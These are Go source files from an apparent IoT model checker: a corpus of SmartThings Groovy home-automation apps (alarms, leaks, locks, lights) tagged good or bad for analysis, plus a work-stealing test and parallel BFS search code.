            if (lastTemp != null) {
                evaluate(lastTemp, isActive ? setpoint : emergencySetpoint)
            }
        } else {
            outlets.off()
        }
    }
}

private evaluate(currentTemp, desiredTemp) {
    log.debug "EVALUATE($currentTemp, $desiredTemp)"
    def threshold = 1.0
    if (mode == "cool") {
        if (currentTemp - desiredTemp >= threshold) {
            outlets.on()
        } else if (desiredTemp - currentTemp >= threshold) {
            outlets.off()
        }
    } else {
        if (desiredTemp - currentTemp >= threshold) {
            outlets.on()
        } else if (currentTemp - desiredTemp >= threshold) {
            outlets.off()
        }
    }
}

private hasBeenRecentMotion() {
    def isActive = false
    if (motion && minutes) {
        if (motion.currentMotion == "active") {
            isActive = true
        }
    } else {
        isActive = true
    }
    return isActive
}
`})

	register(Source{Name: "Good Night", Group: 3, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Good Night",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Changes mode to sleeping mode when lights are turned off at night.",
    category: "Mode Magic"
)

preferences {
    section("When these lights are all off...") {
        input "switches", "capability.switch", multiple: true
    }
    section("Change to this mode") {
        input "sleepMode", "mode", title: "Sleeping mode"
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(switches, "switch.off", switchOffHandler)
}

private allOff() {
    def result = true
    for (sw in switches) {
        if (sw.currentSwitch == "on") {
            result = false
        }
    }
    return result
}

def switchOffHandler(evt) {
    if (allOff() && location.mode != sleepMode) {
        setLocationMode(sleepMode)
        log.debug "entering sleeping mode $sleepMode"
    }
}
`})

	register(Source{Name: "Light Follows Me", Group: 3, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Light Follows Me",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Turn your lights on when motion is detected and off when motion stops.",
    category: "Convenience"
)

preferences {
    section("Turn on when there's movement...") {
        input "motion1", "capability.motionSensor", title: "Where?"
    }
    section("And off when there's been no movement for...") {
        input "minutes1", "number", title: "Minutes?"
    }
    section("Turn on/off light(s)...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(motion1, "motion", motionHandler)
}

def updated() {
    unsubscribe()
    subscribe(motion1, "motion", motionHandler)
}

def motionHandler(evt) {
    if (evt.value == "active") {
        switches.on()
        state.inactiveAt = null
    } else if (evt.value == "inactive") {
        state.inactiveAt = now()
        runIn(minutes1 * 60, scheduleCheck)
    }
}

def scheduleCheck() {
    if (state.inactiveAt != null) {
        switches.off()
        state.inactiveAt = null
    }
}
`})

	register(Source{Name: "Light Off When Close", Group: 3, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Light Off When Close",
    namespace: "iotsan.corpus",
    author: "Community",
    description: "Turn lights off when a door closes.",
    category: "Convenience"
)

preferences {
    section("When the door closes...") {
        input "contact1", "capability.contactSensor", title: "Where?"
    }
    section("Turn off a light...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(contact1, "contact.closed", contactClosedHandler)
}

def updated() {
    unsubscribe()
    subscribe(contact1, "contact.closed", contactClosedHandler)
}

def contactClosedHandler(evt) {
    switches.off()
}
`})

	register(Source{Name: "Make It So", Group: 4, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Make It So",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Saves the states of switches and locks and restores them on mode change.",
    category: "Mode Magic"
)

preferences {
    section("Switches") {
        input "switches", "capability.switch", multiple: true, required: false
    }
    section("Locks") {
        input "locks", "capability.lock", multiple: true, required: false
    }
}

def installed() {
    subscribe(location, "mode", changedLocationMode)
}

def updated() {
    unsubscribe()
    subscribe(location, "mode", changedLocationMode)
}

def changedLocationMode(evt) {
    if (evt.value == "Away") {
        switches.off()
        locks.lock()
    } else if (evt.value == "Home") {
        switches.on()
        locks.unlock()
    }
}
`})

	register(Source{Name: "Darken Behind Me", Group: 4, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Darken Behind Me",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Turn your lights off after a period of no motion.",
    category: "Convenience"
)

preferences {
    section("When there's no movement...") {
        input "motion1", "capability.motionSensor", title: "Where?"
    }
    section("Turn off...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(motion1, "motion.inactive", motionInactiveHandler)
}

def updated() {
    unsubscribe()
    subscribe(motion1, "motion.inactive", motionInactiveHandler)
}

def motionInactiveHandler(evt) {
    switches.off()
}
`})

	register(Source{Name: "Switch Changes Mode", Group: 4, Tags: []Tag{TagMarket, TagBad}, Groovy: `
definition(
    name: "Switch Changes Mode",
    namespace: "iotsan.corpus",
    author: "Community",
    description: "Change location mode when a switch turns on or off.",
    category: "Mode Magic"
)

preferences {
    section("When this switch...") {
        input "trigger", "capability.switch", title: "Which?"
    }
    section("Modes") {
        input "onMode", "mode", title: "Mode when on"
        input "offMode", "mode", title: "Mode when off"
    }
}

def installed() {
    subscribe(trigger, "switch", switchHandler)
}

def updated() {
    unsubscribe()
    subscribe(trigger, "switch", switchHandler)
}

def switchHandler(evt) {
    if (evt.value == "on") {
        if (location.mode != onMode) {
            setLocationMode(onMode)
        }
    } else {
        if (location.mode != offMode) {
            setLocationMode(offMode)
        }
    }
}
`})

	register(Source{Name: "Energy Saver", Group: 2, Tags: []Tag{TagMarket, TagBad}, Groovy: `
definition(
    name: "Energy Saver",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Turn things off when your energy use goes above a threshold.",
    category: "Green Living"
)

preferences {
    section("When power consumption exceeds...") {
        input "meter", "capability.powerMeter", title: "Meter"
        input "threshold", "number", title: "Watts?"
    }
    section("Turn off...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(meter, "power", powerHandler)
}

def updated() {
    unsubscribe()
    subscribe(meter, "power", powerHandler)
}

def powerHandler(evt) {
    def meterValue = evt.numericValue
    if (meterValue > threshold) {
        log.debug "${meter} reported ${meterValue} W, above threshold; turning things off"
        switches.off()
    }
}
`})

	register(Source{Name: "Smart Security", Group: 5, Tags: []Tag{TagMarket}, Groovy: `
definition(
    name: "Smart Security",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Alerts you when there is motion or an opening while you are away.",
    category: "Safety & Security"
)

preferences {
    section("Sense motion with...") {
        input "motions", "capability.motionSensor", multiple: true, required: false
    }
    section("Or door openings with...") {
        input "contacts", "capability.contactSensor", multiple: true, required: false
    }
    section("Sound the alarm") {
        input "alarms", "capability.alarm", multiple: true, required: false
    }
    section("Notify this number") {
        input "phone", "phone", title: "Phone number", required: false
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    if (motions) {
        subscribe(motions, "motion.active", intruderMotion)
    }
    if (contacts) {
        subscribe(contacts, "contact.open", intruderContact)
    }
}

def intruderMotion(evt) {
    if (location.mode == "Away") {
        triggerAlarm()
    }
}

def intruderContact(evt) {
    if (location.mode == "Away") {
        triggerAlarm()
    }
}

private triggerAlarm() {
    alarms.both()
    if (phone) {
        sendSms(phone, "Intruder detected at home!")
    }
    sendPush("Intruder detected at home!")
}
`})

	register(Source{Name: "It's Too Cold", Group: 2, Tags: []Tag{TagMarket, TagGood}, Groovy: `
definition(
    name: "It's Too Cold",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Monitor the temperature and get a text message when it drops below your setting, and turn on a heater.",
    category: "Convenience"
)

preferences {
    section("Monitor the temperature...") {
        input "temperatureSensor1", "capability.temperatureMeasurement"
    }
    section("When the temperature drops below...") {
        input "temperature1", "number", title: "Temperature?"
    }
    section("Text me at (optional)") {
        input "phone1", "phone", title: "Phone number?", required: false
    }
    section("Turn on a heater (optional)") {
        input "heaterOutlet", "capability.switch", required: false
    }
}

def installed() {
    subscribe(temperatureSensor1, "temperature", temperatureHandler)
}

def updated() {
    unsubscribe()
    subscribe(temperatureSensor1, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
    def tooCold = temperature1
    def mySwitch = settings.heaterOutlet
    if (evt.numericValue <= tooCold) {
        log.debug "Temperature dropped below $tooCold: sending SMS and activating $mySwitch"
        if (phone1) {
            sendSms(phone1, "${temperatureSensor1.displayName} is too cold, reporting a temperature of ${evt.value}")
        }
        if (heaterOutlet) {
            heaterOutlet.on()
        }
    }
}
`})
}
