package corpus

// Group 5: safety and security (smoke, CO, leaks, alarms, valves,
// cameras). 25 apps with Smart Security.

func g5(name, groovy string, tags ...Tag) {
	register(Source{Name: name, Group: 5, Tags: append([]Tag{TagMarket}, tags...), Groovy: groovy})
}

func init() {
	g5("Smoke Alarm Actions", `
definition(name: "Smoke Alarm Actions", namespace: "smartthings", author: "SmartThings",
    description: "Sound the siren and alert everyone when smoke is detected.", category: "Safety & Security")
preferences {
    section("Smoke detectors") { input "smokes", "capability.smokeDetector", multiple: true }
    section("Siren") { input "siren", "capability.alarm" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { subscribe(smokes, "smoke.detected", smokeHandler) }
def updated() { unsubscribe(); subscribe(smokes, "smoke.detected", smokeHandler) }
def smokeHandler(evt) {
    siren.both()
    if (phone) {
        sendSms(phone, "SMOKE detected by ${evt.displayName}!")
    }
    sendPush("SMOKE detected by ${evt.displayName}!")
}
`, TagGood)

	g5("CO Alert", `
definition(name: "CO Alert", namespace: "iotsan.corpus", author: "Community",
    description: "Alarm and notify on carbon monoxide.", category: "Safety & Security")
preferences {
    section("CO detectors") { input "cos", "capability.carbonMonoxideDetector", multiple: true }
    section("Siren") { input "siren", "capability.alarm" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { subscribe(cos, "carbonMonoxide.detected", coHandler) }
def updated() { unsubscribe(); subscribe(cos, "carbonMonoxide.detected", coHandler) }
def coHandler(evt) {
    siren.siren()
    if (phone) {
        sendSms(phone, "CARBON MONOXIDE at ${evt.displayName}!")
    }
    sendPush("CARBON MONOXIDE at ${evt.displayName}!")
}
`, TagGood)

	g5("Flood Alert", `
definition(name: "Flood Alert", namespace: "smartthings", author: "SmartThings",
    description: "Close the water main and alert on a leak.", category: "Safety & Security")
preferences {
    section("Leak sensors") { input "leaks", "capability.waterSensor", multiple: true }
    section("Water main valve") { input "valve1", "capability.valve" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { subscribe(leaks, "water.wet", leakHandler) }
def updated() { unsubscribe(); subscribe(leaks, "water.wet", leakHandler) }
def leakHandler(evt) {
    valve1.close()
    if (phone) {
        sendSms(phone, "Water leak at ${evt.displayName}; main valve closed")
    }
    sendPush("Water leak at ${evt.displayName}")
}
`, TagGood)

	g5("Intruder Strobe", `
definition(name: "Intruder Strobe", namespace: "iotsan.corpus", author: "Community",
    description: "Strobe the alarm on motion while the house is Away.", category: "Safety & Security")
preferences {
    section("Motion") { input "motions", "capability.motionSensor", multiple: true }
    section("Alarm") { input "alarm1", "capability.alarm" }
}
def installed() { subscribe(motions, "motion.active", motionHandler) }
def updated() { unsubscribe(); subscribe(motions, "motion.active", motionHandler) }
def motionHandler(evt) {
    if (location.mode == "Away") {
        alarm1.strobe()
    }
}
`)

	g5("Entry Breach Siren", `
definition(name: "Entry Breach Siren", namespace: "iotsan.corpus", author: "Community",
    description: "Sound the siren when an entry opens in Away mode.", category: "Safety & Security")
preferences {
    section("Entries") { input "entries", "capability.contactSensor", multiple: true }
    section("Siren") { input "siren", "capability.alarm" }
}
def installed() { subscribe(entries, "contact.open", breachHandler) }
def updated() { unsubscribe(); subscribe(entries, "contact.open", breachHandler) }
def breachHandler(evt) {
    if (location.mode == "Away") {
        siren.siren()
        sendPush("Entry breach: ${evt.displayName}")
    }
}
`)

	g5("Alarm Silencer", `
definition(name: "Alarm Silencer", namespace: "iotsan.corpus", author: "Community",
    description: "Silence the siren as soon as someone comes home.", category: "Safety & Security")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Siren") { input "siren", "capability.alarm" }
}
def installed() { subscribe(people, "presence.present", homeHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.present", homeHandler) }
def homeHandler(evt) {
    siren.off()
}
`, TagBad)

	g5("Fire Escape Unlock", `
definition(name: "Fire Escape Unlock", namespace: "iotsan.corpus", author: "Community",
    description: "Unlock all doors when smoke is detected and someone is home.", category: "Safety & Security")
preferences {
    section("Smoke detectors") { input "smokes", "capability.smokeDetector", multiple: true }
    section("Locks") { input "locks", "capability.lock", multiple: true }
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(smokes, "smoke.detected", fireHandler) }
def updated() { unsubscribe(); subscribe(smokes, "smoke.detected", fireHandler) }
def fireHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (anyoneHome) {
        locks.each { it.unlock() }
        sendPush("Fire! Doors unlocked for escape")
    }
}
`, TagGood)

	g5("Smoke Heater Cutoff", `
definition(name: "Smoke Heater Cutoff", namespace: "iotsan.corpus", author: "Community",
    description: "Kill heater and high-power outlets when smoke is detected.", category: "Safety & Security")
preferences {
    section("Smoke detector") { input "smoke1", "capability.smokeDetector" }
    section("Cut these outlets") { input "outlets", "capability.switch", multiple: true }
}
def installed() { subscribe(smoke1, "smoke.detected", smokeHandler) }
def updated() { unsubscribe(); subscribe(smoke1, "smoke.detected", smokeHandler) }
def smokeHandler(evt) {
    outlets.off()
}
`)

	g5("Leak Chime", `
definition(name: "Leak Chime", namespace: "iotsan.corpus", author: "Community",
    description: "Beep the kitchen chime when the washing machine leaks.", category: "Safety & Security")
preferences {
    section("Leak sensor") { input "leak1", "capability.waterSensor" }
    section("Chime") { input "chime", "capability.tone" }
}
def installed() { subscribe(leak1, "water.wet", leakHandler) }
def updated() { unsubscribe(); subscribe(leak1, "water.wet", leakHandler) }
def leakHandler(evt) {
    chime.beep()
}
`)

	g5("Alarm Auto Reset", `
definition(name: "Alarm Auto Reset", namespace: "iotsan.corpus", author: "Community",
    description: "Stop the siren a few minutes after it starts.", category: "Safety & Security")
preferences {
    section("Siren") { input "siren", "capability.alarm" }
    section("Minutes") { input "minutes1", "number", title: "Minutes" }
}
def installed() { subscribe(siren, "alarm", alarmHandler) }
def updated() { unsubscribe(); subscribe(siren, "alarm", alarmHandler) }
def alarmHandler(evt) {
    if (evt.value != "off") {
        runIn(minutes1 * 60, resetAlarm)
    }
}
def resetAlarm() {
    siren.off()
}
`)

	g5("Away Intrusion Camera", `
definition(name: "Away Intrusion Camera", namespace: "iotsan.corpus", author: "Community",
    description: "Photograph whoever moves while the house is empty.", category: "Safety & Security")
preferences {
    section("Motion") { input "motion1", "capability.motionSensor" }
    section("Camera") { input "camera", "capability.imageCapture" }
}
def installed() { subscribe(motion1, "motion.active", motionHandler) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", motionHandler) }
def motionHandler(evt) {
    if (location.mode == "Away") {
        camera.take()
    }
}
`)

	g5("Glass Break Response", `
definition(name: "Glass Break Response", namespace: "iotsan.corpus", author: "Community",
    description: "Treat window acceleration while Away as a break-in.", category: "Safety & Security")
preferences {
    section("Window sensor") { input "accel", "capability.accelerationSensor" }
    section("Siren") { input "siren", "capability.alarm" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { subscribe(accel, "acceleration.active", breakHandler) }
def updated() { unsubscribe(); subscribe(accel, "acceleration.active", breakHandler) }
def breakHandler(evt) {
    if (location.mode == "Away") {
        siren.both()
        if (phone) {
            sendSms(phone, "Possible glass break at ${evt.displayName}")
        }
    }
}
`)

	g5("Security Arm on Away", `
definition(name: "Security Arm on Away", namespace: "iotsan.corpus", author: "Community",
    description: "Flip the security-panel switch when the mode goes Away.", category: "Safety & Security")
preferences {
    section("Security switch") { input "panel", "capability.switch" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Away") {
        panel.on()
    } else if (evt.value == "Home") {
        panel.off()
    }
}
`)

	g5("Panic Button", `
definition(name: "Panic Button", namespace: "iotsan.corpus", author: "Community",
    description: "Holding the bedside button sounds every siren.", category: "Safety & Security")
preferences {
    section("Button") { input "button1", "capability.button" }
    section("Sirens") { input "sirens", "capability.alarm", multiple: true }
}
def installed() { subscribe(button1, "button.held", panicHandler) }
def updated() { unsubscribe(); subscribe(button1, "button.held", panicHandler) }
def panicHandler(evt) {
    sirens.each { it.both() }
    sendPush("PANIC button held!")
}
`, TagGood)

	g5("Smoke Valve Protect", `
definition(name: "Smoke Valve Protect", namespace: "iotsan.corpus", author: "Community",
    description: "Ensure the fire-sprinkler valve is open during smoke events.", category: "Safety & Security")
preferences {
    section("Smoke detector") { input "smoke1", "capability.smokeDetector" }
    section("Sprinkler valve") { input "valve1", "capability.valve" }
}
def installed() { subscribe(smoke1, "smoke.detected", smokeHandler) }
def updated() { unsubscribe(); subscribe(smoke1, "smoke.detected", smokeHandler) }
def smokeHandler(evt) {
    valve1.open()
}
`)

	g5("Tamper Text", `
definition(name: "Tamper Text", namespace: "iotsan.corpus", author: "Community",
    description: "Text me when the alarm box itself is moved.", category: "Safety & Security")
preferences {
    section("Alarm box accel") { input "accel", "capability.accelerationSensor" }
    section("Phone") { input "phone", "phone" }
}
def installed() { subscribe(accel, "acceleration.active", tamperHandler) }
def updated() { unsubscribe(); subscribe(accel, "acceleration.active", tamperHandler) }
def tamperHandler(evt) {
    sendSms(phone, "Alarm box tampering detected")
}
`)

	g5("Basement Water Watch", `
definition(name: "Basement Water Watch", namespace: "iotsan.corpus", author: "Community",
    description: "Chain: leak in basement turns off the water heater outlet too.", category: "Safety & Security")
preferences {
    section("Basement leak sensor") { input "leak1", "capability.waterSensor" }
    section("Water heater outlet") { input "heaterOutlet", "capability.switch" }
    section("Main valve") { input "valve1", "capability.valve", required: false }
}
def installed() { subscribe(leak1, "water", waterHandler) }
def updated() { unsubscribe(); subscribe(leak1, "water", waterHandler) }
def waterHandler(evt) {
    if (evt.value == "wet") {
        heaterOutlet.off()
        if (valve1) {
            valve1.close()
        }
    }
}
`)

	g5("Night Perimeter Check", `
definition(name: "Night Perimeter Check", namespace: "iotsan.corpus", author: "Community",
    description: "Entering Night mode alerts if any entry is open.", category: "Safety & Security")
preferences {
    section("Entries") { input "entries", "capability.contactSensor", multiple: true }
}
def installed() { subscribe(location, "mode.Night", nightHandler) }
def updated() { unsubscribe(); subscribe(location, "mode.Night", nightHandler) }
def nightHandler(evt) {
    def open = entries.findAll { it.currentContact == "open" }
    if (open.size() > 0) {
        sendPush("Warning: ${open.size()} entries still open at bedtime")
    }
}
`, TagGood)

	g5("CO Fan Purge", `
definition(name: "CO Fan Purge", namespace: "iotsan.corpus", author: "Community",
    description: "Run the ventilation fan when CO is detected.", category: "Safety & Security")
preferences {
    section("CO detector") { input "co1", "capability.carbonMonoxideDetector" }
    section("Vent fan") { input "fan", "capability.switch" }
}
def installed() { subscribe(co1, "carbonMonoxide.detected", coHandler) }
def updated() { unsubscribe(); subscribe(co1, "carbonMonoxide.detected", coHandler) }
def coHandler(evt) {
    fan.on()
}
`)

	g5("Mode Aware Siren Test", `
definition(name: "Mode Aware Siren Test", namespace: "iotsan.corpus", author: "Community",
    description: "Tapping the app strobes the siren briefly, but never at night.", category: "Safety & Security")
preferences {
    section("Siren") { input "siren", "capability.alarm" }
}
def installed() { subscribe(app, appTouch) }
def updated() { unsubscribe(); subscribe(app, appTouch) }
def appTouch(evt) {
    if (location.mode != "Night") {
        siren.strobe()
        runIn(60, sirenOff)
    }
}
def sirenOff() {
    siren.off()
}
`)

	g5("Door Left Open Siren", `
definition(name: "Door Left Open Siren", namespace: "iotsan.corpus", author: "Community",
    description: "Chirp the siren if the garage-entry door stays open in Away.", category: "Safety & Security")
preferences {
    section("Entry contact") { input "entry", "capability.contactSensor" }
    section("Siren") { input "siren", "capability.alarm" }
}
def installed() { subscribe(entry, "contact.open", openHandler) }
def updated() { unsubscribe(); subscribe(entry, "contact.open", openHandler) }
def openHandler(evt) {
    if (location.mode == "Away") {
        runIn(600, checkStillOpen)
    }
}
def checkStillOpen() {
    if (entry.currentContact == "open" && location.mode == "Away") {
        siren.siren()
    }
}
`)

	g5("Water Heater Leak Guard", `
definition(name: "Water Heater Leak Guard", namespace: "iotsan.corpus", author: "Community",
    description: "Leak at the water heater cuts power and notifies a plumber.", category: "Safety & Security")
preferences {
    section("Leak sensor") { input "leak1", "capability.waterSensor" }
    section("Heater outlet") { input "outlet", "capability.switch" }
    section("Plumber phone") { input "plumber", "phone", required: false }
}
def installed() { subscribe(leak1, "water.wet", leakHandler) }
def updated() { unsubscribe(); subscribe(leak1, "water.wet", leakHandler) }
def leakHandler(evt) {
    outlet.off()
    if (plumber) {
        sendSms(plumber, "Leak at the water heater")
    }
}
`)

	g5("Smoke Lights Beacon", `
definition(name: "Smoke Lights Beacon", namespace: "iotsan.corpus", author: "Community",
    description: "Turn every light on during a smoke event to aid escape.", category: "Safety & Security")
preferences {
    section("Smoke detector") { input "smoke1", "capability.smokeDetector" }
    section("Lights") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(smoke1, "smoke", smokeHandler) }
def updated() { unsubscribe(); subscribe(smoke1, "smoke", smokeHandler) }
def smokeHandler(evt) {
    if (evt.value == "detected") {
        lights.on()
    }
}
`)

	g5("Sump Pump Sentinel", `
definition(name: "Sump Pump Sentinel", namespace: "iotsan.corpus", author: "Community",
    description: "Watch the sump water level and run the pump outlet.", category: "Safety & Security")
preferences {
    section("Water level") { input "level", "capability.waterLevelMeasurement" }
    section("Pump outlet") { input "pump", "capability.switch" }
    section("High mark") { input "high", "number", title: "Percent" }
}
def installed() { subscribe(level, "waterLevel", levelHandler) }
def updated() { unsubscribe(); subscribe(level, "waterLevel", levelHandler) }
def levelHandler(evt) {
    if (evt.numericValue > high) {
        pump.on()
    } else if (evt.numericValue < 20) {
        pump.off()
    }
}
`)
}
