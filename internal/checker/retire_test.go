package checker

import (
	"testing"
)

// pulseSys alternates narrow and wide phases: a long sequential chain
// (one pending state at a time — any grown worker goes idle and
// retires, returning its budget token and publishing its deque index)
// followed by a wide fan (pending far exceeds the crew — maybeGrow
// claims the token back and respawns a worker, reusing the freed deque
// index). Several cycles force repeated retire/respawn churn through
// the same token and the same deque.
type pulseState struct{ c, phase, i int }

func (s pulseState) Encode(buf []byte) []byte {
	return append(buf, byte(s.c), byte(s.phase), byte(s.i))
}

type pulseSys struct{ cycles, chain, fan int }

func (p *pulseSys) Initial() State { return pulseState{} }

func (p *pulseSys) Expand(st State) []Transition {
	s := st.(pulseState)
	if s.c >= p.cycles {
		return nil
	}
	if s.phase == 0 {
		if s.i < p.chain {
			return []Transition{{Label: "step", Next: pulseState{c: s.c, i: s.i + 1}}}
		}
		out := make([]Transition, p.fan)
		for j := 0; j < p.fan; j++ {
			out[j] = Transition{Label: "fan", Next: pulseState{c: s.c, phase: 1, i: j}}
		}
		return out
	}
	// Every fan leaf converges on the next cycle's chain start.
	return []Transition{{Label: "join", Next: pulseState{c: s.c + 1}}}
}

func (p *pulseSys) Inspect(st State) []Violation {
	s := st.(pulseState)
	if s.c == p.cycles {
		return []Violation{{Property: "end-reached", Detail: "final cycle"}}
	}
	return nil
}

// TestStealRetireRespawnChurn: the retire/respawn protocol — a retiring
// worker republishes its deque index under freeMu strictly after its
// last deque operation, and a replacement spawned under the same index
// takes ownership of the same *wsDeque — must be race-free against
// thieves still holding the deque pointer and must lose no work. The
// single spare token of a two-token budget funnels every grown worker
// through the same token and (usually) the same freed index; run with
// -race this validates the ownership-handoff invariant the comments in
// strategy_steal.go promise. The deque pointer itself never changes
// (r.deques is fixed at search start), so a thief's "stale" pointer is
// the same object the new owner pushes to — Chase–Lev top/bottom
// arbitration plus the freeMu publish/claim ordering is what keeps the
// handoff sound.
func TestStealRetireRespawnChurn(t *testing.T) {
	sys := &pulseSys{cycles: 6, chain: 100, fan: 32}
	seq := Run(sys, Options{MaxDepth: 10000})
	if seq.Truncated {
		t.Fatal("reference run truncated")
	}

	for run := 0; run < 5; run++ {
		b := NewWorkerBudget(2) // admission token + one spare to churn through
		b.Acquire()             // the caller-held admission token (Options.Budget contract)
		res := Run(sys, Options{MaxDepth: 10000, Strategy: StrategySteal, Workers: 4, Budget: b})
		b.Release()
		if got := b.Size(); got != 2 {
			t.Fatalf("run %d: budget size changed: %d", run, got)
		}
		// Every claimed token must be back: both tokens acquirable.
		if !b.TryAcquire() || !b.TryAcquire() {
			t.Fatalf("run %d: search leaked budget tokens", run)
		}
		if res.Truncated {
			t.Fatalf("run %d: truncated", run)
		}
		if res.StatesExplored != seq.StatesExplored || res.StatesMatched != seq.StatesMatched ||
			res.StatesStored != seq.StatesStored {
			t.Errorf("run %d: state space diverges: steal explored=%d matched=%d stored=%d / dfs %d/%d/%d",
				run, res.StatesExplored, res.StatesMatched, res.StatesStored,
				seq.StatesExplored, seq.StatesMatched, seq.StatesStored)
		}
		if len(res.Violations) != len(seq.Violations) {
			t.Errorf("run %d: %d violations, want %d", run, len(res.Violations), len(seq.Violations))
		}
	}
}
