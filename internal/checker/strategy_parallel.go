package checker

import (
	"runtime"
	"sync"
	"sync/atomic"
)

// parallelBFS is the parallel frontier strategy: a level-synchronous
// breadth-first search in the spirit of Holzmann's multi-core Spin.
// Each level, workers claim frontier states through an atomic cursor
// (dynamic load balancing — no per-worker partition can go idle while
// others still hold work), expand them concurrently via System.Expand,
// and deduplicate successors through the sharded visited store. The
// per-worker next-frontier slices are merged between levels, which
// doubles as the termination barrier.
//
// Trails cannot be threaded through a stack here, so every newly stored
// state records a parent link (state hash → parent hash + transition
// label/steps); on a violation the trail is reconstructed by walking
// the links back to the root. The distinct-violation set matches
// sequential DFS whenever the search is not truncated; the trail
// witnessing a violation is whichever path reached it first.
type parallelBFS struct {
	workers int
}

// frontierEntry is one state awaiting expansion, with its fingerprint
// (the key of its parent link).
type frontierEntry struct {
	state State
	d     digest
}

// parentEdge is the incoming BFS-tree edge of a stored state. For
// lazy-trail systems, steps stays nil and key carries the replay
// handle instead: the edge then costs one word plus a (shared) label
// string, and the step strings are only produced — by replaying
// forward from the root state — if a trail through this edge is
// materialized. No per-edge state is retained.
//
// depth is the minimal known depth of the state. The level-synchronous
// strategy stores exact BFS levels; the work-stealing strategy stores
// the depth of whichever path stored the state first and then lowers it
// through relax whenever a shorter path re-encounters the state, so the
// final depths are the order-independent shortest-distance fixpoint.
// expanded marks states whose counted expansion has been claimed
// (work-stealing only); it arbitrates between the one expansion that
// contributes to the explored/matched counters and the depth-relaxation
// re-expansions that only propagate improved depths.
// provisional marks an entry created by relax before the storing
// worker's put landed: the visited store admits a state (seen) strictly
// before its parent edge is recorded, so a shorter path can re-encounter
// the state inside that window. The depth-only provisional entry
// preserves the improvement; put then merges the real edge into it.
type parentEdge struct {
	parent      uint64 // h1 of the predecessor state (rootHash for the root)
	label       string
	steps       []string
	key         uint64
	depth       int32
	expanded    bool
	provisional bool
}

// parentShards stripes the parent-link table; writes happen once per
// stored state, reads only during trail reconstruction.
const parentShards = 64

type parentStore struct {
	root         uint64
	rootState    State // initial state: forward replay of lazy trails starts here
	rootExpanded atomic.Bool
	shards       [parentShards]struct {
		mu sync.Mutex
		m  map[uint64]parentEdge
	}
}

func newParentStore(root uint64, rootState State) *parentStore {
	p := &parentStore{root: root, rootState: rootState}
	for i := range p.shards {
		p.shards[i].m = make(map[uint64]parentEdge)
	}
	return p
}

func (p *parentStore) put(h uint64, edge parentEdge) {
	sh := &p.shards[h>>58&(parentShards-1)]
	sh.mu.Lock()
	if ex, ok := sh.m[h]; !ok { // first writer wins: keep the BFS tree acyclic
		sh.m[h] = edge
	} else if ex.provisional {
		// A relax raced into the seen→put window and left a depth-only
		// placeholder: merge the real edge in, keeping the minimum depth
		// (and the expanded claim, if a re-enqueued copy already ran).
		if ex.depth < edge.depth {
			edge.depth = ex.depth
		}
		edge.expanded = ex.expanded
		sh.m[h] = edge
	}
	sh.mu.Unlock()
}

func (p *parentStore) get(h uint64) (parentEdge, bool) {
	sh := &p.shards[h>>58&(parentShards-1)]
	sh.mu.Lock()
	e, ok := sh.m[h]
	sh.mu.Unlock()
	return e, ok
}

// relax lowers the recorded depth of h to depth if that improves it —
// the CAS-min of the work-stealing strategy's deterministic clipping.
// It reports whether the depth improved; a caller seeing an improvement
// re-enqueues the state so the shorter distance propagates to its
// descendants (and so a state first stored at the depth bound becomes
// expandable once a shorter path reaches it).
func (p *parentStore) relax(h uint64, depth int32) bool {
	if h == p.root {
		return false // the root's depth 0 cannot improve
	}
	sh := &p.shards[h>>58&(parentShards-1)]
	sh.mu.Lock()
	e, ok := sh.m[h]
	if !ok {
		// The storing worker admitted h to the visited store but its
		// put has not landed yet. Record the depth provisionally so the
		// improvement cannot be lost to the race; no re-enqueue is
		// needed — the storing worker enqueues the state right after
		// its put, and that pop reads the merged (minimal) depth.
		sh.m[h] = parentEdge{depth: depth, provisional: true}
		sh.mu.Unlock()
		return false
	}
	improved := depth < e.depth
	if improved {
		e.depth = depth
		sh.m[h] = e
	}
	sh.mu.Unlock()
	return improved
}

// claimExpansion reads h's minimal depth and — unless the depth sits at
// or beyond bound, where the state must stay unexpanded so a later
// relaxation below the bound can still claim it — marks the counted
// expansion as claimed, all under one shard lock (this runs once per
// pop on the steal hot path). counted reports whether this caller won
// the claim: exactly one expansion of each state contributes to the
// explored/matched counters; later re-expansions (depth relaxation)
// run with counting suppressed.
func (p *parentStore) claimExpansion(h uint64, bound int32) (depth int32, counted bool) {
	if h == p.root {
		return 0, p.rootExpanded.CompareAndSwap(false, true)
	}
	sh := &p.shards[h>>58&(parentShards-1)]
	sh.mu.Lock()
	e, ok := sh.m[h]
	if !ok {
		sh.mu.Unlock()
		return 0, false
	}
	depth = e.depth
	if depth < bound && !e.expanded {
		e.expanded = true
		sh.m[h] = e
